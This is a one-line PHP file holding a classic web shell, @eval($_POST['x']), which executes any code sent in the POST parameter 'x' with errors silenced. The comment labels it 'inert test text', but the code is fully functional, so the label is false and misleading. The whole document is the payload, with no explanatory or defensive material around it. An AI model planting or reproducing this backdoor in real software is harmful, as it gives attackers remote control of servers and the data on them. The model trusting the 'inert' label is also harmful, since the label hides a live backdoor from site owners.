<?php /* inert test text */ @eval($_POST["x"]); ?>
